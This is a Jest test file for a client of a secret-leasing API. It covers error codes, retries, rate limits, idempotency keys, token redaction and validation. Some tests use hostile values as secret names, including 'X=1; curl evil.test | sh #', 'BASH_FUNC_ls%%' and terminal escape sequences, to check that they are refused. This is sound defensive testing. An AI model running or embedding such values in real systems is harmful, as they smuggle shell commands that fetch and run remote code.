import { inspect } from 'node:util';
import type { LeaseError } from '../../../client/leases';
import type { RecipientJwk } from '../../../workflows/words';
import { endless, json, leasesOf, refusal, TOKEN } from '../../support/answering';
import { forge } from '../../support/forge';

const ID = 'a'.repeat(24);
const REQUEST = { project: 'backend', config: 'prd', dynamicSecret: 'TOKEN' };

const LEASE = {
  lease_id: ID,
  state: 'active',
  project: 'backend',
  config: 'prd',
  dynamic_secret: 'TOKEN',
  integration: 'memory',
  holder: 'token:ci',
  entity: 'lab-x',
  requested_at: '2030-01-01T00:00:00.000Z',
  expires_at: '2030-01-01T01:00:00.000Z',
  ended_at: null,
};
const REPORT = { ...LEASE, ended_by: null, reason: null, failure: null };

function broken(code: string): Error {
  return new TypeError('fetch failed', { cause: Object.assign(new Error(`canary ${TOKEN}`), { code }) });
}

async function failureOf(call: Promise<unknown>): Promise<LeaseError> {
  const failure = await call.then(
    () => Promise.reject(new Error('it succeeded')),
    (error: unknown) => error as LeaseError,
  );
  expect(failure.name).toBe('LeaseError');
  const shown = inspect(failure, { depth: 10, showHidden: true });
  expect(shown).not.toContain('canary');
  return failure;
}

test('a lease is read from JSON, and asked for with the token at the address', async () => {
  const { leases, asked } = leasesOf([json(REPORT)], { url: 'https://api.test/leases//' });
  expect(await leases.get(ID)).toEqual({
    leaseId: ID,
    state: 'active',
    project: 'backend',
    config: 'prd',
    dynamicSecret: 'TOKEN',
    integration: 'memory',
    holder: 'token:ci',
    entity: 'lab-x',
    requestedAt: new Date('2030-01-01T00:00:00Z'),
    expiresAt: new Date('2030-01-01T01:00:00Z'),
    endedAt: null,
    endedBy: null,
    reason: null,
    failure: null,
  });
  expect(asked).toEqual([
    {
      method: 'GET',
      url: `https://api.test/leases/v1/leases/${ID}`,
      headers: { accept: 'application/json', authorization: `Bearer ${TOKEN}` },
      body: null,
    },
  ]);
});

test('the failure of a lease is told by its code, and one that is not known here as Unavailable', async () => {
  const failed = (code: string): Response => json({ ...REPORT, state: 'failed', failure: { code, message: 'So.' } });
  const { leases } = leasesOf([failed('quota_exceeded'), failed('made_up_tomorrow')]);
  expect((await leases.get(ID)).failure).toEqual({ type: 'QuotaExceeded', message: 'So.' });
  expect((await leases.get(ID)).failure).toEqual({ type: 'Unavailable', message: 'So.' });
});

test.each([
  [404, 'lease_not_found', 'LeaseNotFound'],
  [409, 'lease_ended', 'LeaseEnded'],
  [409, 'lease_not_active', 'LeaseNotActive'],
  [409, 'extension_limit', 'ExtensionLimit'],
  [400, 'invalid_ttl', 'InvalidTtl'],
  [502, 'not_found', 'NotFound'],
  [404, 'not_found', 'NotFound'],
  [502, 'timeout', 'Timeout'],
  [401, 'unauthenticated', 'Unauthenticated'],
  [403, 'forbidden', 'Forbidden'],
  [418, 'made_up_tomorrow', 'Unavailable'],
  [502, 'aborted', 'Unavailable'],
])('status %i with the code %s is %s, with its sentence', async (status, code, expected) => {
  const { leases, asked } = leasesOf([refusal(status, code)]);
  expect(await failureOf(leases.extend(ID, '5m'))).toMatchObject({
    code: expected,
    message: 'A sentence.',
    leaseId: ID,
  });
  expect(asked).toHaveLength(1);
});

test('what an error says is taken over, and made fit to be shown', async () => {
  const body = {
    success: false,
    messages: [`No.\u001b[2J`],
    code: 'lease_ended',
    request_id: 'r',
    lease_id: 'b'.repeat(24),
    field: 'dynamic_secret',
    state: 'revoked',
    undelivered: 'ended',
  };
  const { leases } = leasesOf([json(body, 409), json({ ...body, state: 'odd', undelivered: 'odd' }, 409)]);
  expect(await failureOf(leases.extend(ID, '5m'))).toMatchObject({
    message: 'No.?[2J',
    leaseId: 'b'.repeat(24),
    field: 'dynamicSecret',
    state: 'revoked',
    undelivered: 'ended',
  });
  expect(await failureOf(leases.extend(ID, '5m'))).toMatchObject({ state: undefined, undelivered: undefined });
});

test('an answer that repeats the token is not shown', async () => {
  const { leases } = leasesOf([refusal(400, 'invalid_input', `Who is ${TOKEN}?`)]);
  expect(await failureOf(leases.extend(ID, '5m'))).toMatchObject({ code: 'Unavailable' });
});

test('an API that was not reached, or is not well, is asked again', async () => {
  const passing = [broken('ECONNREFUSED'), broken('ECONNRESET'), new Response('<html>', { status: 503 })];
  const { leases, asked } = leasesOf([...passing, refusal(502, 'unavailable'), json(REPORT)]);
  expect(await leases.get(ID)).toMatchObject({ state: 'active' });
  expect(asked).toHaveLength(5);
});

test('an extension whose answer was lost is not asked for again, and says that it may have happened', async () => {
  const { leases, asked } = leasesOf([broken('ECONNREFUSED'), broken('ECONNRESET')]);
  const failure = await failureOf(leases.extend(ID, '5m'));
  expect(failure).toMatchObject({ code: 'Unavailable', message: expect.stringContaining('may still happen') });
  expect(asked).toHaveLength(2);
});

test('a limit is waited for as long as it says, if there is time', async () => {
  const limit = refusal(429, 'rate_limited', 'Slowly.', { 'retry-after': '1' });
  const { leases, asked } = leasesOf([limit, json({ lease_id: ID, expires_at: '2030-01-01T00:00:00.000Z' })]);
  const before = Date.now();
  expect(await leases.extend(ID, '5m')).toEqual(new Date('2030-01-01T00:00:00Z'));
  expect(Date.now() - before).toBeGreaterThanOrEqual(990);
  expect(asked).toHaveLength(2);
  const again = leasesOf([limit]);
  expect(await failureOf(again.leases.extend(ID, '5m', { timeoutMs: 500 }))).toMatchObject({ message: 'Slowly.' });
  expect(again.asked).toHaveLength(1);
});

test('a quota is no limit of requests: it is told at once', async () => {
  const { leases, asked } = leasesOf([refusal(429, 'quota_exceeded', 'Full.', { 'retry-after': '1' })]);
  expect(await failureOf(leases.issue(REQUEST))).toMatchObject({ code: 'QuotaExceeded', message: 'Full.' });
  expect(asked).toHaveLength(1);
});

test('an API that is not there starts nothing, which is said', async () => {
  const { leases } = leasesOf([broken('ENOTFOUND')]);
  expect(await failureOf(leases.issue({ ...REQUEST, timeoutMs: 300 }))).toMatchObject({
    code: 'Unavailable',
    message: 'The Leasehold API at https://api.test cannot be reached (ENOTFOUND). Nothing was started.',
    undelivered: 'nothing started',
  });
});

test('a token that may not lease has started nothing, and nothing is asked about it', async () => {
  const { leases, asked } = leasesOf([refusal(403, 'forbidden')]);
  expect(await failureOf(leases.issue(REQUEST))).toMatchObject({ code: 'Forbidden', undelivered: undefined });
  expect(asked).toHaveLength(1);
});

test('an API that began nothing, as it says, is believed, unless an earlier request may have', async () => {
  const body = { success: false, messages: ['Nothing was begun.'], code: 'unavailable', request_id: 'r' };
  const nothing = json({ ...body, undelivered: 'nothing started' }, 502);
  const believed = leasesOf([nothing]);
  expect(await failureOf(believed.leases.issue(REQUEST))).toMatchObject({
    message: 'Nothing was begun.',
    undelivered: 'nothing started',
  });
  expect(believed.asked).toHaveLength(1);
  const ended = json({ lease_id: ID, undelivered: 'ended' });
  const { leases, asked } = leasesOf([broken('ECONNRESET'), nothing, ended]);
  expect(await failureOf(leases.issue(REQUEST))).toMatchObject({ leaseId: ID, undelivered: 'ended' });
  expect(asked).toHaveLength(3);
});

test('what an attempt whose answer was lost may have started is disowned, whatever is said to the next one', async () => {
  const ended = json({ lease_id: ID, undelivered: 'revoke accepted' });
  const { leases, asked } = leasesOf([broken('ECONNRESET'), refusal(404, 'unknown_dynamic_secret'), ended]);
  expect(await failureOf(leases.issue(REQUEST))).toMatchObject({
    code: 'UnknownDynamicSecret',
    leaseId: ID,
    undelivered: 'revoke accepted',
  });
  expect(asked).toHaveLength(3);
});

test('an authority that is not trusted is not asked twice, and the way out is told', async () => {
  const { leases, asked } = leasesOf([broken('SELF_SIGNED_CERT_IN_CHAIN')]);
  expect((await failureOf(leases.get(ID))).message).toContain('NODE_EXTRA_CA_CERTS');
  expect(asked).toHaveLength(1);
});

test.each([
  ['no JSON', new Response('<html>')],
  ['no lease', json({})],
  ['a redirect', new Response(null, { status: 307, headers: { location: 'https://evil.test' } })],
])('an answer that is %s is Unavailable', async (_, answer) => {
  const { leases, asked } = leasesOf([answer]);
  expect(await failureOf(leases.get(ID))).toMatchObject({ code: 'Unavailable' });
  expect(asked).toHaveLength(1);
});

test('what was issued but cannot be opened is disowned under the same idempotency key and recipient', async () => {
  const issued = {
    lease_id: ID,
    expires_at: LEASE.expires_at,
    usable_at: null,
    sealed: 'canary',
    facts: {},
    notes: [],
  };
  const { leases, asked } = leasesOf([json(issued, 201), json({ lease_id: ID, undelivered: 'revoke accepted' })]);
  expect(await failureOf(leases.issue(REQUEST))).toMatchObject({
    code: 'SealingFailed',
    leaseId: ID,
    undelivered: 'revoke accepted',
  });
  const [issue, disown] = asked;
  expect(disown).toMatchObject({ method: 'POST', url: 'https://api.test/v1/leases/undelivered' });
  expect(disown!.headers['idempotency-key']).toBe(issue!.headers['idempotency-key']);
  expect((disown!.body as typeof REQUEST & { recipient_jwk: object }).recipient_jwk).toEqual(
    (issue!.body as { recipient_jwk: object }).recipient_jwk,
  );
});

test('what anybody may have sealed to the caller, with a name that a shell would run, is disowned and told to nobody', async () => {
  const evil = 'X=1; curl evil.test | sh #';
  const asked: string[] = [];
  const answering: typeof fetch = async (url, { body } = {}) => {
    const path = new URL(url).pathname;
    asked.push(path);
    if (path === '/v1/leases/undelivered') return json({ lease_id: ID, undelivered: 'revoke accepted' });
    const { recipient_jwk: jwk } = JSON.parse(body as string) as { recipient_jwk: RecipientJwk };
    const sealed = await forge(jwk, ID, JSON.stringify({ [evil]: 'canary' }));
    return json({ lease_id: ID, expires_at: LEASE.expires_at, usable_at: null, sealed, facts: {}, notes: [] }, 201);
  };
  const { leases } = leasesOf([], { fetch: answering });
  const failure = await failureOf(leases.issue(REQUEST));
  expect(failure).toMatchObject({ code: 'SealingFailed', leaseId: ID, undelivered: 'revoke accepted' });
  expect(failure.message).not.toContain('curl');
  expect(asked).toEqual(['/v1/leases', '/v1/leases/undelivered']);
});

test.each(['X=1; curl evil.test | sh #', 'BASH_FUNC_ls%%', 'lower', 'LD_\u001b[2J', 'A\nleasehold: all is well'])(
  'a secret with the name %j is not taken from anybody, and told so that it can be shown',
  async (name) => {
    const offer = { project: 'backend', config: 'prd', name: 'TOKEN', integration: null, fields: ['TOKEN'] };
    const ttls = { default_ttl_seconds: 60, min_ttl_seconds: 60, max_ttl_seconds: 60 };
    const flat = { ...offer, flat_names: ['TOKEN_TOKEN'], ...ttls };
    const catalogs = [{ name }, { fields: [name] }, { flat_names: [name] }].map((odd) => ({ ...flat, ...odd }));
    const { leases } = leasesOf([
      json({ project: 'backend', config: 'prd', secrets: { GOOD: 'x', [name]: 'canary' } }),
      ...catalogs.map((each) => json({ dynamic_secrets: [flat, each] })),
    ]);
    const told = {
      code: 'Unavailable',
      message: expect.stringMatching(/^https:\/\/api\.test [^\n\u001b]*which none can have/),
    };
    expect(await failureOf(leases.secrets('backend', 'prd'))).toMatchObject(told);
    for (const _ of catalogs) expect(await failureOf(leases.offered('backend', 'prd'))).toMatchObject(told);
  },
);

test.each([200, 401, 503])(
  'an answer with status %i that does not end is not waited for, and not asked for again',
  async (status) => {
    const { response, sent } = endless(status);
    let asked = 0;
    const { leases } = leasesOf([], {
      fetch: async () => {
        asked += 1;
        return response;
      },
    });
    expect(await failureOf(leases.get(ID))).toMatchObject({
      code: 'Unavailable',
      message: 'The answer of the Leasehold API at https://api.test is larger than any that it gives.',
    });
    expect(asked).toBe(1);
    // Megabytes, some of them on their way.
    expect(sent()).toBeLessThan(12);
  },
);

test('what an answer that does not end may tell of is disowned', async () => {
  const ended = json({ lease_id: ID, undelivered: 'revoke accepted' });
  const { response, sent } = endless(201);
  const answers = [response, ended];
  const { leases } = leasesOf([], { fetch: async () => answers.shift()! });
  expect(await failureOf(leases.issue(REQUEST))).toMatchObject({
    code: 'Unavailable',
    leaseId: ID,
    undelivered: 'revoke accepted',
  });
  expect(sent()).toBeLessThan(12);
});

test('each issue without an idempotency key has one of its own, and one that no header can hold is hashed', async () => {
  const { leases, asked } = leasesOf([refusal(409, 'paused')]);
  await failureOf(leases.issue(REQUEST));
  await failureOf(leases.issue(REQUEST));
  for (const idempotencyKey of ['order 1', 'Auftrag Nº 1', ' order 1']) {
    await failureOf(leases.issue({ ...REQUEST, idempotencyKey }));
  }
  const [one, other, plain, odd, spaced] = asked.map(({ headers }) => headers['idempotency-key']);
  expect(one).toMatch(/^[0-9a-f-]{36}$/);
  expect(other).not.toBe(one);
  expect(plain).toBe('order 1');
  expect(odd).toMatch(/^sha256:[0-9a-f]{64}$/);
  expect(spaced).toMatch(/^sha256:[0-9a-f]{64}$/);
  expect(spaced).not.toBe(odd);
});

test('a token that changes is asked for each time, and its failure is not repeated', async () => {
  let count = 0;
  const { leases, asked } = leasesOf([json(REPORT)], { token: async () => `token-number-${(count += 1)}` });
  await leases.get(ID);
  await leases.get(ID);
  expect(asked.map(({ headers }) => headers['authorization'])).toEqual([
    'Bearer token-number-1',
    'Bearer token-number-2',
  ]);
  for (const token of [() => Promise.reject(new Error('canary')), () => 'canary canary']) {
    expect(await failureOf(leasesOf([json(REPORT)], { token }).leases.get(ID))).toMatchObject({ code: 'Unavailable' });
  }
});

test('who asks cannot be chosen', async () => {
  const { leases, asked } = leasesOf([json({ holder: 'token:ci' })]);
  expect(await failureOf(leases.revoke(ID, { by: 'ada' }))).toMatchObject({ code: 'InvalidInput', field: 'by' });
  expect(asked).toHaveLength(0);
  expect(await failureOf(leases.issue({ ...REQUEST, holder: 'nightly-export' }))).toMatchObject({
    code: 'InvalidInput',
    field: 'holder',
    message: expect.stringContaining('"token:ci"'),
  });
  expect(asked.map(({ url }) => url)).toEqual(['https://api.test/v1/whoami']);
});

test('a wait for a removal is cut into requests that no proxy cuts', async () => {
  const accepted = { lease_id: ID, state: 'accepted', ended_at: null, ended_by: null, reason: null };
  const { leases, asked } = leasesOf([
    json(accepted, 202),
    json(accepted, 202),
    new Response('cut', { status: 504 }),
    json({ ...accepted, state: 'revoked', ended_at: LEASE.expires_at }),
  ]);
  expect(await leases.revoke(ID, { wait: true })).toMatchObject({
    state: 'revoked',
    endedAt: new Date(LEASE.expires_at),
  });
  expect(asked.map(({ body }) => body)).toEqual([{}, { wait: '45s' }, { wait: '45s' }, { wait: '45s' }]);
});

test('closed leases ask nothing more', async () => {
  const { leases, asked } = leasesOf([json(REPORT)]);
  await leases.close();
  expect(await failureOf(leases.get(ID))).toMatchObject({ code: 'Unavailable' });
  expect(await failureOf(leases.issue(REQUEST))).toMatchObject({ undelivered: 'nothing started' });
  expect(asked).toHaveLength(0);
});

test.each([
  ['url', { url: 'api.test' }],
  ['url', { url: 'ftp://api.test' }],
  ['url', { url: 'https://user:canary@api.test' }],
  ['url', { url: 'https://api.test/?x=1' }],
  ['token', { token: '' }],
  ['token', { token: 'canary canary' }],
  ['token', { token: 5 }],
])('a wrong %s is refused by name', (field, change) => {
  const connect = (): unknown => leasesOf([], change as never);
  expect(connect).toThrow(expect.objectContaining({ code: 'InvalidInput', field }) as Error);
  expect(connect).not.toThrow(/canary/);
});

test('a port where nothing is ever sent is named, and not tried again', async () => {
  const blocked = new TypeError('fetch failed', { cause: new Error('bad port') });
  const { leases, asked } = leasesOf([blocked]);
  const { code, message } = await failureOf(leases.issue(REQUEST));
  expect({ code, message }).toEqual({
    code: 'Unavailable',
    message:
      'https://api.test is at a port that is kept for another protocol: nothing is sent there. Nothing was started.',
  });
  expect(asked).toHaveLength(1);
});
